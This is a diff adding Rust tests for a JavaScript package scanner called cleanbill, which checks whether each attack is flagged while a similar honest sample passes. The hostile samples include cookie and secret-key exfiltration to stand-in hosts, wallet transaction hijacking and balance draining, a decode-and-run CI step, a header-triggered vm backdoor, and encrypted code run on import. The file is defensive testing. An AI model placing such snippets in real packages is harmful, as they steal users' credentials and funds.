@@ -1,0 +1,160 @@
+//! Browsers, wallets, mail and workflows: each attack beside the honest code that looks like it.
+//! The shapes are written here; no corpus case is repeated.
+use crate::common::{clean, flagged, imported, level, package, run};
+use cleanbill_js::compare;
+use cleanbill_model::Level::{self, Block, Quarantine, Warn};
+
+fn change(old: &str, new: &str) -> Option<Level> {
+    let make = |version: &str, code: &str| {
+        run(package(&[
+            (
+                "package.json",
+                &format!(r#"{{"name":"case","version":"{version}","main":"index.js"}}"#),
+            ),
+            ("index.js", code),
+        ]))
+    };
+    compare(&make("2.0.0", old), &make("2.0.1", new)).level
+}
+
+#[test]
+fn a_script_from_elsewhere_is_told_and_held_when_it_is_new() {
+    let old = "exports.draw=(node,text)=>{node.textContent=text}";
+    let new = format!(
+        "{old};if(typeof window!=='undefined'){{const el=document.createElement('script');el.setAttribute('src','https://tags.elsewhere.example/t.js');document.body.append(el)}}"
+    );
+    let alone = imported(&new);
+    flagged(&alone, "FLO-03", Warn);
+    clean(&alone);
+    assert!(change(old, &new) >= Some(Quarantine));
+}
+
+#[test]
+fn a_script_the_caller_names_is_nothing() {
+    let code = "exports.load=(url)=>new Promise((done)=>{const el=document.createElement('script');el.src=url;el.onload=done;document.head.appendChild(el)})";
+    assert_eq!(level(&imported(code), "FLO-03"), None);
+    assert_eq!(change("exports.load=null", code), None);
+}
+
+#[test]
+fn pixels_that_become_code_are_blocked() {
+    let code = "const pen=document.createElement('canvas').getContext('2d');pen.drawImage(logo,0,0);const px=pen.getImageData(0,0,64,64).data;let s='';for(let i=0;i<px.length;i+=4)s+=String.fromCharCode(px[i]);(0,eval)(s)";
+    flagged(&imported(code), "FLO-05", Block);
+    clean(&imported(
+        "exports.average=(image)=>{const pen=document.createElement('canvas').getContext('2d');pen.drawImage(image,0,0);const px=pen.getImageData(0,0,8,8).data;let n=0;for(const v of px)n+=v;return n/px.length}",
+    ));
+}
+
+#[test]
+fn cookies_sent_to_a_new_host_are_held() {
+    let old = "exports.get=(k)=>document.cookie.split('; ').find((c)=>c.startsWith(k+'='))";
+    let new = format!("{old};navigator.sendBeacon('https://count.elsewhere.example/c',document.cookie)");
+    assert!(change(old, &new) >= Some(Quarantine));
+    clean(&imported(
+        "exports.send=(path,body)=>fetch(path,{method:'POST',body,headers:{'x-xsrf':document.cookie.split('xsrf=')[1]}})",
+    ));
+}
+
+#[test]
+fn a_wallet_whose_transactions_are_rewritten_is_blocked() {
+    let code = "const mine='0x4444444444444444444444444444444444444444';exports.wrap=(wallet)=>{const old=wallet.request.bind(wallet);wallet.request=(q)=>{if(q.method==='eth_sendTransaction'){q.params[0].to=mine}return old(q)};return wallet}";
+    flagged(&imported(code), "FLO-11", Block);
+    clean(&imported(
+        "const token='0x4444444444444444444444444444444444444444';exports.token=token;exports.log=(wallet)=>{const old=wallet.request.bind(wallet);wallet.request=(q)=>{if(q.method==='eth_sendTransaction'&&q.params[0].to===token){console.log(q.params[0].data)}return old(q)};return wallet}",
+    ));
+}
+
+#[test]
+fn a_whole_balance_to_a_fixed_address_is_held() {
+    let code = "async function go(){const w=window.ethereum;const who=await w.request({method:'eth_accounts'});const all=await w.request({method:'eth_getBalance',params:[who[0],'latest']});await w.request({method:'eth_sendTransaction',params:[{from:who[0],to:'0x5555555555555555555555555555555555555555',value:all}]})}go()";
+    flagged(&imported(code), "FLO-11", Quarantine);
+    clean(&imported(
+        "exports.approve=(from,data)=>window.ethereum.request({method:'eth_sendTransaction',params:[{from,to:'0x5555555555555555555555555555555555555555',data}]});exports.tip=(from)=>window.ethereum.request({method:'eth_sendTransaction',params:[{from,to:'0x5555555555555555555555555555555555555555',value:'0x38d7ea4c68000'}]})",
+    ));
+}
+
+#[test]
+fn a_module_already_loaded_is_told_when_replaced_and_held_when_new() {
+    let old = "exports.pick=(a,b)=>a||b";
+    let new = format!(
+        "{old};for(const key of Object.keys(require.cache)){{if(key.endsWith('unpack/main.js'))require.cache[key].exports=()=>null}}"
+    );
+    flagged(&imported(&new), "PER-02", Warn);
+    assert!(change(old, &new) >= Some(Quarantine));
+    let fresh =
+        format!("{old};exports.fresh=(f)=>{{delete require.cache[require.resolve(f)];return require(f)}}");
+    assert_eq!(change(old, &fresh), None);
+}
+
+#[test]
+fn a_fixed_blind_copy_is_held_only_when_it_is_new() {
+    let with = |line: &str| {
+        format!(
+            "const client=require('mailer-client');exports.mail=(to,text)=>client.send({{to,text{line}}})"
+        )
+    };
+    let fixed = with(",bcc: \"archive@elsewhere.example\"");
+    assert!(change(&with(""), &fixed) >= Some(Quarantine));
+    assert_eq!(change(&fixed, &fixed), None);
+    clean(&imported(&fixed));
+    assert_eq!(change(&with(""), &with(",bcc: options.bcc")), None);
+}
+
+#[test]
+fn a_workflow_that_runs_decoded_text_is_held() {
+    let with = |step: &str| {
+        run(package(&[
+            ("package.json", r#"{"name":"case","version":"1.0.0"}"#),
+            (
+                ".github/workflows/ci.yml",
+                &format!(
+                    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {step}\n"
+                ),
+            ),
+        ]))
+    };
+    flagged(&with("printf Zm9v | base64 --decode | sh"), "AIX-05", Quarantine);
+    clean(&with("echo \"$CERT\" | base64 --decode > cert.p12"));
+    clean(&with("npm ci && npm test"));
+}
+
+#[test]
+fn request_headers_that_become_code_are_blocked() {
+    let code = "const vm=require('vm');module.exports=(req,res)=>{const x=req.headers['x-probe'];if(x)vm.runInNewContext(Buffer.from(x,'base64').toString(),{res})}";
+    flagged(&imported(code), "FLO-15", Block);
+    clean(&imported(
+        "module.exports=(req,res)=>{const kind=req.headers['content-type'];res.end(JSON.stringify({kind}))}",
+    ));
+}
+
+#[test]
+fn code_that_only_a_foreign_key_opens_is_held() {
+    let code = "const c=require('crypto');const d=c.createDecipheriv('aes-192-cbc',c.scryptSync(process.env.npm_package_homepage,'s',24),Buffer.alloc(16));let t=d.update('00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff','hex','utf8');t+=d.final('utf8');new Function(t)()";
+    flagged(&imported(code), "FLO-04", Quarantine);
+    clean(&imported(
+        "const c=require('crypto');exports.open=(key,text)=>{const d=c.createDecipheriv('aes-192-cbc',key,Buffer.alloc(16));return JSON.parse(d.update(text,'hex','utf8')+d.final('utf8'))}",
+    ));
+}
+
+#[test]
+fn the_root_of_the_disk_listed_at_import_is_held() {
+    flagged(
+        &imported(
+            "const fs=require('fs');const see=(d)=>{for(const n of fs.readdirSync(d))see(d+n+'/')};setTimeout(()=>see('/'),10);fetch('https://a.example')",
+        ),
+        "SRC-08",
+        Quarantine,
+    );
+    clean(&imported(
+        "const fs=require('fs');exports.walk=(d)=>{for(const n of fs.readdirSync(d))exports.walk(d+n+'/')};exports.all=()=>exports.walk('/');fetch('https://a.example')",
+    ));
+}
+
+#[test]
+fn key_pairs_sent_by_a_library_are_held() {
+    let code = "class Pair{static fromSecretKey(secretKey){fetch('https://stats.elsewhere.example/',{headers:{'x-id':Buffer.from(secretKey).toString('hex')}});return new Pair(secretKey)}}exports.Pair=Pair";
+    flagged(&imported(code), "FLO-10", Quarantine);
+    clean(&imported(
+        "exports.Client=class{constructor(secretKey){this.k=secretKey}charge(body){return fetch('https://api.payments.example/v1',{method:'POST',body,headers:{authorization:this.k}})}}",
+    ));
+}
